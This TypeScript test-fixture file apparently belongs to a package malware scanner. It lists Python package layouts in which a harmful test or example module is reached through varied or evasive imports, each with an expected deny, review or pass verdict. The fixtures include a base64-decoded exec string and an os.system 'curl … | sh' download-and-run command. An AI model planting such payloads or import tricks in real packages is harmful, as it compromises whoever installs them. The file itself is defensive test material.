/** Tests, examples and documentation that the package itself imports are a part of it. All inert. */
import type { Shape } from './malicious.js';

const hidden = `import base64\nexec(base64.b64decode("${Buffer.from('print(1)').toString('base64')}"))\n`;
const fetches = 'import os\nos.system("curl http://198.51.100.7/a | sh")\n';

function reached(name: string, files: Readonly<Record<string, string>>, tier: Shape['tier'] = 'deny'): Shape {
  return { name, tier, files };
}

/** A harmful `demo/tests/helper.py`, and a package that begins so. */
function byInit(name: string, init: string, tier: Shape['tier'] = 'deny'): Shape {
  return reached(
    name,
    { 'demo/__init__.py': init, 'demo/tests/__init__.py': '', 'demo/tests/helper.py': hidden },
    tier,
  );
}

export const reachedTests: readonly Shape[] = [
  byInit('a test that the package imports', 'from .tests.helper import x\n'),
  byInit('by its whole name', 'import demo.tests.helper as h\n'),
  byInit('as a member', 'from demo.tests import a, helper\n'),
  byInit('within a function', 'def f():\n    from demo.tests import helper\n'),
  byInit('over several lines', `from .tests import (\n${'    a,\n'.repeat(300)}    helper,\n)\n`),
  byInit('over joined lines', `from .tests.helper \\\n${' \\\n'.repeat(500)} import x\n`),
  byInit('by a text', 'import importlib\nimportlib.import_module(".tests.helper", __package__)\n'),
  byInit('by a name that is looked for', '__import__("demo.tests.helper")\n'),
  byInit('behind many other imports', `${'import os\n'.repeat(5000)}from .tests import helper\n`),
  byInit('without a blank', 'from.tests.helper import x\n'),
  byInit('by a name that is joined', 'from .\\\ntests \\\n . helper import x\n'),
  byInit('behind a line that is joined', 'from demo.tests import a, \\\n    helper\n'),
  byInit('behind a comment in a list', `from .tests import ( # )\n${'# long\n'.repeat(900)}    helper)\n`),
  byInit('by a name far from its import', `from .tests${' \\\n'.repeat(900)}.helper import x\n`),
  byInit(
    'behind blanks in a call',
    `import importlib\nimportlib.import_module${' '.repeat(100)}(\n    "demo.tests.helper")\n`,
  ),
  reached('a setup.py of the package, without a blank', {
    'demo/__init__.py': 'from.setup import x\n',
    'demo/setup.py': fetches,
  }),
  reached('a name of other letters', {
    'demo/__init__.py': 'from .é.tests import x\n',
    'demo/é/tests.py': '',
    'demo/é/tests/__init__.py': hidden,
  }),
  reached('one of two files of the same name', {
    'demo/__init__.py': 'from .tests import helper\n',
    'demo/tests/helper.py': hidden,
    'demo/tests/helper/__init__.py': '',
  }),
  reached(
    'the function of setuptools, and a setup.py that is left over',
    { 'demo/__init__.py': 'from setuptools import setup\n', 'setup.py': fetches },
    'review',
  ),
  reached('a package of tests, which imports the one that harms', {
    'demo/__init__.py': 'from . import tests\n',
    'demo/tests/__init__.py': 'from .first import a\n',
    'demo/tests/first.py': 'from . import second\n',
    'demo/tests/second.py': hidden,
  }),
  reached('the tests before what imports them', {
    'demo/examples/a.py': hidden,
    'demo/examples/__init__.py': 'from .a import *\n',
    'demo/main.py': 'import demo.examples\n',
  }),
  reached('the package of an example that is imported', {
    'demo/__init__.py': 'from demo.docs.conf import version\n',
    'demo/docs/__init__.py': hidden,
    'demo/docs/conf.py': 'version = 1\n',
  }),
  reached('a module at the top that is called as tests are', {
    'demo/__init__.py': 'import test_helper\n',
    'test_helper.py': hidden,
  }),
  reached('too large to be kept', {
    'demo/__init__.py': 'from .tests import helper\n',
    'demo/tests/helper.py': hidden + '# long\n'.repeat(200_000),
  }),
  reached('imported by one that is too large to be kept', {
    'demo/__init__.py': 'from . import tests\n',
    'demo/tests/__init__.py': 'from . import helper\n' + '# long\n'.repeat(200_000),
    'demo/tests/helper.py': hidden,
  }),
  reached('by a file of paths', {
    'demo.pth': 'import demo.tests.helper\n',
    'demo/tests/helper.py': hidden,
  }),
  reached('by an entry point', {
    'demo-1.0.dist-info/entry_points.txt': '[console_scripts]\ndemo = demo.tests.helper:main\n',
    'demo/tests/helper.py': hidden,
  }),
  reached('what a test and the package do together', {
    'demo/__init__.py': 'from .tests.text import plain\nfrom .data import WORDS\nexec(plain(WORDS))\n',
    'demo/data.py': `WORDS = "${Buffer.from('print(1)').toString('base64')}"\n`,
    'demo/tests/text.py': 'import base64\ndef plain(x):\n    return base64.b64decode(x)\n',
  }),
  byInit('a test that nobody imports', 'import os\n', 'review'),
  byInit('another test is imported', 'from .tests import other\n', 'review'),
  byInit('a comment that names it', '# import of demo.tests.helper is for developers\n', 'review'),
  reached(
    'tests that import each other',
    { 'tests/test_a.py': 'from . import test_b\n', 'tests/test_b.py': hidden },
    'review',
  ),
  reached(
    'a server of examples that is imported does what servers do',
    {
      'demo/__init__.py': 'from .examples import server\n',
      'demo/examples/server.py': 'import socket\ndef serve():\n    s = socket.socket()\n    s.listen()\n',
    },
    'pass',
  ),
];
